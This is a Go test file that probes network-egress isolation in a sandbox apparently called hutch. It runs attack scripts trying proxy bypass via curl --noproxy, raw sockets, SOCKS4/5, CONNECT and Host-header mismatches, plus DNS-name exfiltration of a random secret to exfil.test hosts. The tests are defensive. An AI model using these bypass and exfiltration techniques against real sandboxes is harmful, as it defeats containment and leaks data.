//go:build linux

package escape

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// Network egress (ESCAPES 15–18). In the default mode "none" the sandbox's
// network namespace holds only its own loopback. In mode "proxy" it holds
// its own loopback plus hutch's egress proxy (HTTP at 127.0.0.1:3128,
// SOCKS5 at 127.0.0.1:1080), the only way out. The proxy tests run real
// upstreams on the host's loopback, reachable through the proxy only by
// names pinned with --add-host and ranges opened with --allow-private.
//
// None of these tests sends traffic off this machine: upstreams listen on
// the host's own addresses, names are pinned (never looked up), and the
// outside addresses tried are TEST-NET or documentation addresses to which
// the sandbox has no route, so connecting fails before any packet leaves.

// listenTCP listens on addr ("127.0.0.1:0", "[::1]:0", ...) until the test
// ends; it returns nil when the host cannot listen there.
func listenTCP(t *testing.T, addr string) *listener {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Logf("cannot listen on %s on this host (%v); that probe is skipped", addr, err)
		return nil
	}
	return count(t, l, l.Addr().String())
}

// udpListener is a host UDP socket counting the datagrams it receives.
type udpListener struct {
	addr     string
	received atomic.Int64
}

func listenUDP(t *testing.T, addr string) *udpListener {
	t.Helper()
	c, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatalf("listen on udp %s: %v", addr, err)
	}
	h := &udpListener{addr: c.LocalAddr().String()}
	go func() {
		buf := make([]byte, 1500)
		for {
			if _, _, err := c.ReadFrom(buf); err != nil {
				return
			}
			h.received.Add(1)
		}
	}()
	t.Cleanup(func() { c.Close() })
	return h
}

// hostAddrs lists the host's own global unicast addresses (not loopback,
// not link-local).
func hostAddrs() []net.IP {
	var out []net.IP
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.IsGlobalUnicast() {
			out = append(out, n.IP)
		}
	}
	return out
}

// TestItem15_DirectEgress: no direct connection leaves the sandbox (S6):
// TCP to a listener on the host's 127.0.0.1 and ::1 is refused (the
// sandbox's loopback is its own) and the listener accepts nothing; TCP to
// the host's own non-loopback addresses, to a TEST-NET address over IPv4
// and IPv6, and UDP to TEST-NET fail at once with "network unreachable";
// a UDP datagram to the host's loopback never arrives; raw ICMP sockets are
// refused; the caller's proxy variables are not passed, and curl with
// --noproxy fails. On the sandbox's loopback hutch's proxy listens, but
// only refuses: the proxy variables name it, and a request through it gets
// 403 "the sandbox has no network" and reaches nothing. The sandbox's own
// loopback works (the control).
func TestItem15_DirectEgress(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		var tcp []*listener
		for _, addr := range []string{"127.0.0.1:0", "[::1]:0"} {
			if l := listenTCP(t, addr); l != nil {
				tcp = append(tcp, l)
			}
		}
		var own []*listener
		for _, ip := range hostAddrs() {
			if l := listenTCP(t, net.JoinHostPort(ip.String(), "0")); l != nil {
				own = append(own, l)
			}
		}
		udp := listenUDP(t, "127.0.0.1:0")
		a := sb.attacker()
		want := map[string][]string{
			"tcp:192.0.2.1:80":     {"ENETUNREACH"},
			"tcp:[2001:db8::1]:80": {"ENETUNREACH"},
			"udp:192.0.2.1:9":      {"ENETUNREACH"},
			"udp:" + udp.addr:      {"ECONNREFUSED", "noreply"},
			"socket:raw4":          {"EPERM"},
			"socket:raw6":          {"EPERM"},
			"tcp_self":             {"ok"},
			// In mode "none" hutch's proxy listens there only to refuse.
			"tcp:127.0.0.1:3128": {"ok"},
			"tcp:127.0.0.1:1080": {"ok"},
		}
		for _, l := range tcp {
			want["tcp:"+l.addr] = []string{"ECONNREFUSED"}
		}
		for _, l := range own {
			want["tcp:"+l.addr] = []string{"ENETUNREACH"}
		}
		script := argv(a, sortedKeys(want)...) + `
echo "PROXY=${HTTP_PROXY:-unset} ${HTTPS_PROXY:-unset} ${ALL_PROXY:-unset}"
if command -v curl >/dev/null; then
	curl -sS --max-time 5 -o /dev/null -w 'PROXIED %{http_code}\n' http://192.0.2.1/
	unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy
	curl -sS --noproxy '*' --max-time 5 http://192.0.2.1/; echo "RC curl $?"
fi
`
		caller := []string{"HTTP_PROXY=http://192.0.2.9:3128", "HTTPS_PROXY=http://192.0.2.9:3128", "ALL_PROXY=socks5://192.0.2.9:1080"}
		r := sb.run(opts{env: caller}, script)
		noProxy := sb.gvisor() || sb.microvm()
		if noProxy {
			// The gVisor and microvm tiers run no refusing proxy in
			// mode none and set no proxy variables: nothing listens
			// there (the microvm guest has no relay port at all).
			want["tcp:127.0.0.1:3128"] = []string{"ECONNREFUSED"}
			want["tcp:127.0.0.1:1080"] = []string{"ECONNREFUSED"}
		}
		// The microvm guest's root (the workspace's owner is root here)
		// makes raw sockets in its own kernel, which has no network
		// device: they reach nothing but the guest's loopback.
		expect(t, r, sb.microvmAlso(want, map[string][]string{"socket:raw4": {"ok"}, "socket:raw6": {"ok"}}))
		if strings.Contains(r.stdout, "192.0.2.9") {
			t.Errorf("the caller's proxy variables were passed into the sandbox\n%s", r)
		}
		if noProxy {
			if !strings.Contains(r.stdout, "PROXY=unset unset unset") {
				t.Errorf("proxy variables set under gVisor or microvm\n%s", r)
			}
		} else if !strings.Contains(r.stdout, "PROXY=http://127.0.0.1:3128 http://127.0.0.1:3128 socks5h://127.0.0.1:1080") {
			t.Errorf("the proxy variables do not name hutch's refusing proxy\n%s", r)
		}
		if !noProxy && strings.Contains(r.stdout, "PROXIED") && !strings.Contains(r.stdout, "PROXIED 403") {
			t.Errorf("hutch's proxy in mode none did not refuse\n%s", r)
		}
		if strings.Contains(r.stdout, "RC curl 0") {
			t.Errorf("curl --noproxy reached TEST-NET\n%s", r)
		}
		for _, l := range append(tcp, own...) {
			if n := l.accepted.Load(); n != 0 {
				t.Errorf("S6 violated: host listener %s accepted %d connection(s) from the sandbox", l.addr, n)
			}
		}
		time.Sleep(100 * time.Millisecond) // a datagram in flight would have landed
		if n := udp.received.Load(); n != 0 {
			t.Errorf("S6 violated: host UDP socket %s received %d datagram(s) from the sandbox", udp.addr, n)
		}
	})
}

// TestItem15_PolicyNoDirectRoute: a policy that allows a domain puts the
// sandbox in proxy mode, and that opens no direct route (S2/S6): plain
// HTTP, a TLS port and port 22 on a TEST-NET address, and IPv6, all fail
// with "network unreachable", while the proxy's own listener is there
// (the control that the mode is "proxy").
func TestItem15_PolicyNoDirectRoute(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		pol := filepath.Join(hostDir(t, sb.mode.uid, "policy"), "policy.yaml")
		writeFile(t, pol, "network:\n  allowed_domains: [example.com]\n", 0o644, sb.mode.uid)
		a := sb.attacker()
		want := map[string][]string{
			"tcp:192.0.2.1:80": {"ENETUNREACH"}, "tcp:192.0.2.1:443": {"ENETUNREACH"},
			"tcp:192.0.2.1:22": {"ENETUNREACH"}, "tcp:[2001:db8::1]:443": {"ENETUNREACH"},
			"tcp:127.0.0.1:3128": {"ok"},
		}
		r := sb.run(opts{flags: []string{"--policy", pol}}, argv(a, sortedKeys(want)...))
		expect(t, r, want)
	})
}

// The proxy's addresses inside the sandbox.
const (
	httpProxy  = "127.0.0.1:3128"
	socksProxy = "127.0.0.1:1080"
)

// egressEnv is what a proxy-mode test sets up on the host: upstreams on
// the host's loopback, a test CA in the workspace and the report file.
type egressEnv struct {
	web   *upstream // HTTP, allowed as allowed.test:web.port
	tls   *upstream // HTTPS with a certificate of the test CA, allowed as allowed.test:tls.port
	echo  *upstream // line echo, allowed as allowed.test:echo.port
	trap  *listener // allowed on no port: must never see a connection
	tag   string    // the organization of tls's certificate
	ca    string    // the CA's file name in the workspace
	rep   string    // the report file
	trapP string    // trap's port
}

func newEgressEnv(t *testing.T, sb *harness) *egressEnv {
	t.Helper()
	e := &egressEnv{tag: randomName("hutch-upstream-"), ca: "ca.pem"}
	srvTLS := testCA(t, filepath.Join(sb.ws, e.ca), sb.mode.uid, e.tag, "allowed.test", "denied.test")
	e.web = startWeb(t, "127.0.0.1:0", nil)
	e.tls = startWeb(t, "127.0.0.1:0", srvTLS)
	e.echo = startEcho(t, "127.0.0.1:0")
	if e.trap = listenTCP(t, "127.0.0.1:0"); e.trap == nil {
		t.Fatal("cannot listen on the host's loopback")
	}
	_, e.trapP, _ = net.SplitHostPort(e.trap.addr)
	e.rep = filepath.Join(hostDir(t, sb.mode.uid, "report"), "report.jsonl")
	return e
}

// flags are hutch's flags for proxy mode with allowed.test pinned to the
// host's loopback and allowed on the three upstreams' ports, plus extra.
func (e *egressEnv) flags(extra ...string) []string {
	f := []string{
		"--net", "proxy", "--report", e.rep,
		"--add-host", "allowed.test:127.0.0.1", "--allow-private", "127.0.0.1/32",
		"--allow-domain", "allowed.test:" + e.web.port,
		"--allow-domain", "allowed.test:" + e.tls.port,
		"--allow-domain", "allowed.test:" + e.echo.port,
	}
	return append(f, extra...)
}

// shq quotes s for the shell.
func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// qargv is argv with every attack quoted for the shell.
func qargv(attacker string, attacks ...string) string {
	q := make([]string, len(attacks))
	for i, a := range attacks {
		q[i] = shq(a)
	}
	return argv(attacker, q...)
}

// raw is the attacker's rawhttp attack: one hand-made request to the HTTP
// proxy.
func raw(method, target, host string) string {
	return "rawhttp:" + strings.Join([]string{httpProxy, method, target, host}, ",")
}

// socks5 is the attacker's socks5 attack.
func socks5(host, port, cmd string) string {
	return "socks5:" + socksProxy + ":" + host + ":" + port + ":" + cmd
}

// expectCurl checks the fields of one `try` line.
func expectCurl(t *testing.T, r result, c map[string]map[string]string, name string, want map[string]string) {
	t.Helper()
	got, ok := c[name]
	if !ok {
		t.Errorf("curl %s: no result printed\n%s", name, r)
		return
	}
	for _, k := range sortedKeys(want) {
		if w := want[k]; strings.HasPrefix(w, "!") {
			if got[k] == w[1:] {
				t.Errorf("curl %s: %s=%s, want anything else (%v)", name, k, got[k], got)
			}
		} else if got[k] != w {
			t.Errorf("curl %s: %s=%q, want %q (%v)", name, k, got[k], w, got)
		}
	}
}

// expectOutcome checks attacks whose results are checked by prefix:
// attack → the result's start; a leading "!" means "must not start so".
func expectOutcome(t *testing.T, r result, want map[string]string) {
	t.Helper()
	got := attacks(r.stdout)
	for _, a := range sortedKeys(want) {
		res, ok := got[a]
		w := want[a]
		switch {
		case !ok:
			t.Errorf("attack %s: no result printed\n%s", a, r)
		case strings.HasPrefix(w, "!") && strings.HasPrefix(res, w[1:]):
			t.Errorf("attack %s: got %q, want anything but %q", a, res, w[1:])
		case !strings.HasPrefix(w, "!") && !strings.HasPrefix(res, w):
			t.Errorf("attack %s: got %q, want %q…", a, res, w)
		}
	}
}

// sameSet fails unless upstream u received exactly want (in any order).
func sameSet(t *testing.T, what string, u *upstream, want ...string) {
	t.Helper()
	got := u.received()
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("S6: %s upstream %s received %q, want exactly %q (the controls)", what, u.addr, got, want)
	}
}

var summaryRE = regexp.MustCompile(`(?m)^hutch: blocked (\d+) connections?: (.*)$`)

// expectSummary checks hutch's stderr line about refusals: it counts every
// blocked event of the report and lists first (the first refusal).
func expectSummary(t *testing.T, r result, evs []event, first string) {
	t.Helper()
	m := summaryRE.FindStringSubmatch(r.stderr)
	if m == nil {
		t.Errorf("no \"hutch: blocked N connection(s): …\" line on stderr\n%s", r)
		return
	}
	n := 0
	for _, e := range evs {
		if e.Action == "blocked" {
			n++
		}
	}
	if m[1] != strconv.Itoa(n) {
		t.Errorf("stderr summary counts %s blocked connections, the report has %d: %s", m[1], n, m[0])
	}
	if !strings.HasPrefix(m[2], first) {
		t.Errorf("stderr summary does not start with the first refusal %q: %s", first, m[0])
	}
}

// TestItem15_ProxyBypass: in proxy mode every way around the proxy fails
// (S6). The attacks: curl --noproxy '*' to the allowed name (no DNS in the
// sandbox) and to the upstream's address; curl with every proxy variable
// unset; raw TCP to the host's upstreams on 127.0.0.1 and ::1, to the
// v4-mapped spelling, to the host's own addresses and to TEST-NET over IPv4
// and IPv6; UDP to a host socket and to TEST-NET; raw ICMP sockets. Direct
// TCP to the host's loopback reaches only the sandbox's own loopback
// (ECONNREFUSED) and the host listeners accept nothing but the proxy's
// connections for the controls. The controls: the proxy variables are set
// as documented, and allowed.test is reached through the HTTP proxy and
// through SOCKS5, which the report lists with their traffic.
func TestItem15_ProxyBypass(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		e := newEgressEnv(t, sb)
		v6 := listenTCP(t, "[::1]:0")
		var own []*listener
		for _, ip := range hostAddrs() {
			if l := listenTCP(t, net.JoinHostPort(ip.String(), "0")); l != nil {
				own = append(own, l)
			}
		}
		udp := listenUDP(t, "127.0.0.1:0")
		a := sb.attacker()
		want := map[string][]string{
			"tcp:127.0.0.1:" + e.web.port:           {"ECONNREFUSED"},
			"tcp:127.0.0.1:" + e.echo.port:          {"ECONNREFUSED"},
			"tcp:[::ffff:127.0.0.1]:" + e.echo.port: {"ECONNREFUSED"},
			"tcp:127.0.0.2:" + e.echo.port:          {"ECONNREFUSED"},
			"tcp:192.0.2.1:443":                     {"ENETUNREACH"},
			"tcp:[2001:db8::1]:443":                 {"ENETUNREACH"},
			"udp:" + udp.addr:                       {"ECONNREFUSED", "noreply"},
			"udp:192.0.2.1:53":                      {"ENETUNREACH"},
			"udp:[2001:db8::1]:53":                  {"ENETUNREACH"},
			"socket:raw4":                           {"EPERM"},
			"socket:raw6":                           {"EPERM"},
			"tcp:" + httpProxy:                      {"ok"}, // the proxy is in the sandbox's loopback
			"tcp:" + socksProxy:                     {"ok"},
		}
		if v6 != nil {
			want["tcp:"+v6.addr] = []string{"ECONNREFUSED"}
		}
		for _, l := range own {
			want["tcp:"+l.addr] = []string{"ENETUNREACH"}
		}
		ctlSocks := socks5("allowed.test", e.echo.port, "connect")
		web := "allowed.test:" + e.web.port
		script := curlFn + `
for v in http_proxy HTTP_PROXY https_proxy HTTPS_PROXY ALL_PROXY all_proxy NO_PROXY no_proxy; do
	eval "echo \"ENV $v=\${$v-unset}\""
done
printf 'GIT %s\n' "$GIT_SSH_COMMAND"
try control http://` + web + `/bypass-control
try noproxy --noproxy '*' http://` + web + `/bypass-noproxy
try noproxy_ip --noproxy '*' http://127.0.0.1:` + e.web.port + `/bypass-noproxy-ip
try noproxy_testnet --noproxy '*' http://192.0.2.1/
(
	unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy NO_PROXY no_proxy
	try unset http://127.0.0.1:` + e.web.port + `/bypass-unset
	try unset_name http://` + web + `/bypass-unset-name
)
` + qargv(a, append(sortedKeys(want), ctlSocks)...)
		r := sb.run(opts{flags: e.flags()}, script)
		// The microvm guest's root (the workspace's owner is root here)
		// makes raw sockets in its own kernel, which has no network
		// device: they reach nothing but the guest's loopback.
		expect(t, r, sb.microvmAlso(want, map[string][]string{"socket:raw4": {"ok"}, "socket:raw6": {"ok"}}))
		expectOutcome(t, r, map[string]string{ctlSocks: "rep=0x00 echo=ok"})
		for _, v := range []string{
			"http_proxy=http://127.0.0.1:3128", "HTTP_PROXY=http://127.0.0.1:3128",
			"https_proxy=http://127.0.0.1:3128", "HTTPS_PROXY=http://127.0.0.1:3128",
			"ALL_PROXY=socks5h://127.0.0.1:1080", "all_proxy=socks5h://127.0.0.1:1080",
			"NO_PROXY=localhost,127.0.0.1,::1,0.0.0.0", "no_proxy=localhost,127.0.0.1,::1,0.0.0.0",
		} {
			if !slices.Contains(strings.Split(r.stdout, "\n"), "ENV "+v) {
				t.Errorf("proxy environment: want %s in the sandbox\n%s", v, r)
			}
		}
		if !strings.Contains(r.stdout, "GIT ssh -o ProxyCommand='/dev/hutch proxy-connect %h %p'") {
			t.Errorf("GIT_SSH_COMMAND does not use hutch's proxy-connect\n%s", r)
		}
		c := curls(r.stdout)
		expectCurl(t, r, c, "control", map[string]string{"rc": "0", "code": "200/000", "body": "upstream_/bypass-control_"})
		expectCurl(t, r, c, "noproxy", map[string]string{"rc": "6"})         // could not resolve: no DNS
		expectCurl(t, r, c, "noproxy_ip", map[string]string{"rc": "7"})      // refused by the sandbox's own loopback
		expectCurl(t, r, c, "noproxy_testnet", map[string]string{"rc": "7"}) // network unreachable
		expectCurl(t, r, c, "unset", map[string]string{"rc": "7"})           // same, without proxy variables
		expectCurl(t, r, c, "unset_name", map[string]string{"rc": "6"})      // no DNS without the proxy either
		sameSet(t, "HTTP", e.web, "GET /bypass-control")
		sameSet(t, "echo", e.echo, "socks5 allowed.test "+e.echo.port)
		if n := e.echo.accepted.Load(); n != 1 {
			t.Errorf("S6: the echo upstream accepted %d connections, want 1 (the SOCKS5 control)", n)
		}
		for _, l := range append(own, v6) {
			if l != nil && l.accepted.Load() != 0 {
				t.Errorf("S6 violated: host listener %s accepted %d connection(s) from the sandbox", l.addr, l.accepted.Load())
			}
		}
		time.Sleep(100 * time.Millisecond)
		if n := udp.received.Load(); n != 0 {
			t.Errorf("S6 violated: host UDP socket %s received %d datagram(s) from the sandbox", udp.addr, n)
		}
		evs := readReport(t, e.rep)
		expectReport(t, evs, nil, map[string]int{"allowed.test": atoi(t, e.web.port)})
		if ev, ok := findEvent(evs, "allowed", "", "allowed.test", atoi(t, e.echo.port)); !ok || ev.Protocol != "socks5" || ev.BytesOut <= 0 || ev.BytesIn <= 0 {
			t.Errorf("report: want an allowed socks5 event with traffic for allowed.test:%s, got %v (ok=%v)\n%s", e.echo.port, ev, ok, reportText(evs))
		}
		for _, ev := range evs {
			if ev.Action == "allowed" && ev.Host != "allowed.test" {
				t.Errorf("report: an allowed event for a destination no control used: %s", ev)
			}
		}
	})
}

func atoi(t *testing.T, s string) int {
	t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// nameservers returns the nameserver addresses of /etc/resolv.conf.
func nameservers() []string {
	f, err := os.Open("/etc/resolv.conf")
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if f := strings.Fields(sc.Text()); len(f) >= 2 && f[0] == "nameserver" {
			if ip := net.ParseIP(strings.Split(f[1], "%")[0]); ip != nil {
				out = append(out, net.JoinHostPort(ip.String(), "53"))
			}
		}
	}
	return out
}

// TestItem16_DNS: no name lookup leaves the sandbox (S6): getent for a
// name only DNS could answer fails, a query to each of the host's
// nameservers fails at once (unreachable, or refused by the sandbox's own
// loopback for a local stub resolver), and a fake resolver on the host's
// loopback receives nothing. /etc/hosts still answers (the control).
func TestItem16_DNS(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		resolver := listenUDP(t, "127.0.0.1:0")
		a := sb.attacker()
		want := map[string][]string{"udp:" + resolver.addr: {"ECONNREFUSED", "noreply"}}
		for _, ns := range nameservers() {
			want["udp:"+ns] = []string{"ENETUNREACH", "ECONNREFUSED"}
		}
		name := randomName("hutch-exfil-") + ".example.invalid"
		script := argv(a, sortedKeys(want)...) + `
getent hosts localhost >/dev/null; echo "RC control $?"
getent hosts ` + name + `; echo "RC lookup $?"
getent ahosts example.com; echo "RC lookup2 $?"
`
		r := sb.run(opts{}, script)
		expect(t, r, want)
		if !strings.Contains(r.stdout, "RC control 0") {
			t.Errorf("control failed: localhost did not resolve from /etc/hosts\n%s", r)
		}
		for _, bad := range []string{"RC lookup 0", "RC lookup2 0"} {
			if strings.Contains(r.stdout, bad) {
				t.Errorf("S6 violated: a DNS lookup succeeded inside the sandbox (%s)\n%s", bad, r)
			}
		}
		time.Sleep(100 * time.Millisecond)
		if n := resolver.received.Load(); n != 0 {
			t.Errorf("S6 violated: the host's fake resolver got %d query(ies) from the sandbox", n)
		}
	})
}

// TestItem16_DNSProxy: in proxy mode no name lookup leaves the sandbox
// either (S6). The attacks: getent for a random name and for the pinned
// name; DNS over UDP and TCP to each of the host's nameservers and to a
// fake resolver on the host's loopback (which receives nothing); and
// exfiltration through the proxy, asking it for random names over plain
// HTTP, CONNECT and SOCKS5 with a domain address: each is refused as "not
// in allowedDomains", decided before any lookup (a lookup would have
// carried the name to the host's resolver). The sandbox's own lookups are
// answered "no such host" by hutch on the sandbox's loopback and reported
// as lookups. The controls: /etc/hosts answers, and the pinned name is
// reached through the proxy, which resolves it itself.
func TestItem16_DNSProxy(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		e := newEgressEnv(t, sb)
		resolver := listenUDP(t, "127.0.0.1:0")
		resolverTCP := listenTCP(t, "127.0.0.1:0")
		a := sb.attacker()
		want := map[string][]string{
			"udp:" + resolver.addr:    {"ECONNREFUSED", "noreply"},
			"tcp:" + resolverTCP.addr: {"ECONNREFUSED"},
		}
		for _, ns := range nameservers() {
			want["udp:"+ns] = []string{"ENETUNREACH", "ECONNREFUSED", "noreply"}
			want["tcp:"+ns] = []string{"ENETUNREACH", "ECONNREFUSED"}
		}
		secret := randomName("hutch-exfil-")
		viaHTTP, viaConnect, viaSocks := secret+"-h.exfil.test", secret+"-c.exfil.test", secret+"-s.exfil.test"
		exfilSocks := socks5(viaSocks, "443", "connect")
		script := curlFn + `
getent hosts localhost >/dev/null; echo "RC control $?"
getent hosts ` + secret + `.example.invalid; echo "RC lookup $?"
try control http://allowed.test:` + e.web.port + `/dns-control
try exfil_http http://` + viaHTTP + `/
try exfil_connect https://` + viaConnect + `/
` + qargv(a, append(sortedKeys(want), exfilSocks)...)
		r := sb.run(opts{flags: e.flags()}, script)
		expect(t, r, want)
		expectOutcome(t, r, map[string]string{exfilSocks: "rep=0x02"})
		if !strings.Contains(r.stdout, "RC control 0") {
			t.Errorf("control failed: localhost did not resolve from /etc/hosts\n%s", r)
		}
		if strings.Contains(r.stdout, "RC lookup 0") {
			t.Errorf("S6 violated: a DNS lookup succeeded inside the sandbox\n%s", r)
		}
		c := curls(r.stdout)
		expectCurl(t, r, c, "control", map[string]string{"rc": "0", "code": "200/000", "body": "upstream_/dns-control_"})
		expectCurl(t, r, c, "exfil_http", map[string]string{"code": "403/000", "blocked": "not_in_allowedDomains"})
		expectCurl(t, r, c, "exfil_connect", map[string]string{"rc": "!0", "code": "000/403"})
		sameSet(t, "HTTP", e.web, "GET /dns-control")
		time.Sleep(100 * time.Millisecond)
		if n := resolver.received.Load(); n != 0 {
			t.Errorf("S6 violated: the host's fake resolver got %d query(ies) from the sandbox", n)
		}
		if n := resolverTCP.accepted.Load(); n != 0 {
			t.Errorf("S6 violated: the host's fake TCP resolver accepted %d connection(s) from the sandbox", n)
		}
		evs := readReport(t, e.rep)
		notAllowed := []string{"not in allowedDomains"}
		expectReport(t, evs, []blockedWant{
			{"http", viaHTTP, 80, notAllowed},
			{"connect", viaConnect, 443, notAllowed},
			{"socks5", viaSocks, 443, notAllowed},
		}, map[string]int{"allowed.test": atoi(t, e.web.port)})
		for _, ev := range evs {
			if strings.Contains(ev.Reason, "lookup") || ev.Address != "" && strings.Contains(ev.Host, secret) {
				t.Errorf("S6: the proxy looked up a name it had to refuse unresolved: %s", ev)
			}
		}
		// The sandbox's own lookup was answered by hutch on its loopback,
		// and reported; it went nowhere else.
		if _, ok := findEvent(evs, "lookup", "dns", secret+".example.invalid", 0); !ok {
			t.Errorf("report: no lookup event for the sandbox's getent\n%s", reportText(evs))
		}
	})
}

// TestItem17_FilterCoverage: the proxy enforces every rule on every
// protocol (S6). With allowed.test allowed on three ports and denied.test
// allowed but also denied (deny wins), the attacks are: plain HTTP to the
// denied host and to a name not allowed; CONNECT (curl and by hand) to the
// denied host and to allowed.test on a port not allowed and on port 22,
// also through hutch's proxy-connect helper (ssh's ProxyCommand); plain
// HTTP to a port not allowed; SOCKS5 to port 22, to a port not allowed and
// to an IP literal; SOCKS5 BIND and UDP ASSOCIATE; SOCKS4 and SOCKS4a; a
// plain-HTTP request whose Host header differs from its URI (both ways),
// an origin-form request naming a host not allowed, and CONNECTs whose
// Host header differs from the target. Each is refused (403 with its
// reason in X-Hutch-Blocked, SOCKS5 reply 0x02 or 0x07, SOCKS4 rejected),
// the report holds a blocked event with the reason, the stderr summary
// names the first refusal, and the upstreams receive only the controls,
// the trap listener nothing. The controls: allowed.test over plain HTTP,
// HTTPS through CONNECT with the upstream's own certificate (the tunnel is
// opaque: verification against the test CA only, whose key the proxy does
// not have), SOCKS5, a hand-made request with matching Host, and
// proxy-connect; the report lists each with its traffic.
func TestItem17_FilterCoverage(t *testing.T) {
	forEachMode(t, func(t *testing.T, sb *harness) {
		e := newEgressEnv(t, sb)
		a := sb.attacker()
		web, tlsP, echo, trap := e.web.port, e.tls.port, e.echo.port, e.trapP
		flags := e.flags(
			"--add-host", "denied.test:127.0.0.1", "--add-host", "other.test:127.0.0.1",
			"--allow-domain", "denied.test:"+web, "--allow-domain", "denied.test:"+tlsP,
			"--deny-domain", "denied.test",
		)
		hdrMismatch := raw("GET", "http://allowed.test:"+web+"/hdr-mismatch", "other.test:"+web)
		hdrMismatch2 := raw("GET", "http://other.test:"+trap+"/hdr-mismatch2", "allowed.test:"+web)
		hdrSame := raw("GET", "http://allowed.test:"+web+"/hdr-same", "allowed.test:"+web)
		originForm := raw("GET", "/origin-form", "other.test:"+trap)
		connTrap := raw("CONNECT", "allowed.test:"+trap, "allowed.test:"+trap)
		conn22 := raw("CONNECT", "allowed.test:22", "allowed.test:22")
		connHdr := raw("CONNECT", "other.test:"+trap, "allowed.test:"+echo)
		connHdr2 := raw("CONNECT", "allowed.test:"+echo, "other.test:"+trap)
		socks22 := socks5("allowed.test", "22", "connect")
		socksTrap := socks5("allowed.test", trap, "connect")
		socksIP := socks5("127.0.0.1", echo, "connect")
		socksBind := socks5("allowed.test", echo, "bind")
		socksUDP := socks5("allowed.test", echo, "udp")
		socksUDP0 := socks5("0.0.0.0", "0", "udp")
		socksCtl := socks5("allowed.test", echo, "connect")
		socks4 := "socks4:" + socksProxy + ":127.0.0.1:" + echo
		socks4a := "socks4:" + socksProxy + ":allowed.test:" + echo
		script := curlFn + `
try denied http://denied.test:` + web + `/denied
try other http://other.test:` + web + `/other
try ctl_http http://allowed.test:` + web + `/ctl-http
try ctl_https -v --cacert ` + e.ca + ` https://allowed.test:` + tlsP + `/ctl-https
grep -q 'O=` + e.tag + `' /tmp/e.ctl_https && echo "CERT upstream's own"
try https_denied --cacert ` + e.ca + ` https://denied.test:` + tlsP + `/https-denied
try tunnel_trap -p http://allowed.test:` + trap + `/tunnel-trap
try http_trap http://allowed.test:` + trap + `/http-trap
echo pc-control | timeout 10 /dev/hutch proxy-connect allowed.test ` + echo + `; echo "RC pc_control $?"
timeout 10 /dev/hutch proxy-connect allowed.test 22 </dev/null 2>/tmp/pc22; echo "RC pc_22 $?"; sed 's/^/PC22 /' /tmp/pc22
` + qargv(a, hdrMismatch, hdrMismatch2, hdrSame, originForm, connTrap, conn22, connHdr, connHdr2,
			socks22, socksTrap, socksIP, socksBind, socksUDP, socksUDP0, socksCtl, socks4, socks4a)
		r := sb.run(opts{flags: flags}, script)

		c := curls(r.stdout)
		expectCurl(t, r, c, "denied", map[string]string{"rc": "0", "code": "403/000", "blocked": "denied_by_deniedDomains"})
		expectCurl(t, r, c, "other", map[string]string{"rc": "0", "code": "403/000", "blocked": "not_in_allowedDomains"})
		expectCurl(t, r, c, "ctl_http", map[string]string{"rc": "0", "code": "200/000", "body": "upstream_/ctl-http_"})
		expectCurl(t, r, c, "ctl_https", map[string]string{"rc": "0", "code": "200/200", "body": "upstream_/ctl-https_"})
		if !strings.Contains(r.stdout, "CERT upstream's own") {
			t.Errorf("the HTTPS control did not see the upstream's own certificate (O=%s)\n%s", e.tag, r)
		}
		expectCurl(t, r, c, "https_denied", map[string]string{"rc": "!0", "code": "000/403"})
		expectCurl(t, r, c, "tunnel_trap", map[string]string{"rc": "!0", "code": "000/403"})
		expectCurl(t, r, c, "http_trap", map[string]string{"rc": "0", "code": "403/000", "blocked": "port_" + trap + "_not_allowed_for_allowed.test"})
		if !strings.Contains(r.stdout, "pc-control\nRC pc_control 0") {
			t.Errorf("control failed: proxy-connect to allowed.test:%s did not echo\n%s", echo, r)
		}
		if !strings.Contains(r.stdout, "RC pc_22 1") || !strings.Contains(r.stdout, "port 22 not allowed for allowed.test") {
			t.Errorf("proxy-connect to allowed.test:22 was not refused with its reason\n%s", r)
		}
		expectOutcome(t, r, map[string]string{
			hdrMismatch:  "status=403 blocked=Host_header",
			hdrMismatch2: "status=403",
			hdrSame:      "status=200 body=upstream_/hdr-same",
			originForm:   "!status=2",
			connTrap:     "status=403 blocked=port_" + trap + "_not_allowed_for_allowed.test",
			conn22:       "status=403 blocked=port_22_not_allowed_for_allowed.test",
			connHdr:      "status=403",
			socks22:      "rep=0x02",
			socksTrap:    "rep=0x02",
			socksIP:      "rep=0x02",
			socksBind:    "rep=0x07",
			socksUDP:     "rep=0x07",
			socksUDP0:    "rep=0x07",
			socksCtl:     "rep=0x00 echo=ok",
			socks4:       "!rep=0x5a",
			socks4a:      "!rep=0x5a",
		})
		// A CONNECT whose Host header names another host may be refused or
		// tunnel to its target; it must never reach the Host header's.
		res := attacks(r.stdout)[connHdr2]
		if res != "status=200 echo=ok" && !strings.HasPrefix(res, "status=403") {
			t.Errorf("attack %s: got %q, want a refusal or the tunnel to its target", connHdr2, res)
		}

		sameSet(t, "HTTP", e.web, "GET /ctl-http", "GET /hdr-same")
		sameSet(t, "HTTPS", e.tls, "GET /ctl-https")
		echoes := []string{"pc-control", "socks5 allowed.test " + echo}
		if res == "status=200 echo=ok" {
			echoes = append(echoes, "connect allowed.test:"+echo+" other.test:"+trap)
		}
		sameSet(t, "echo", e.echo, echoes...)
		if n := e.trap.accepted.Load(); n != 0 {
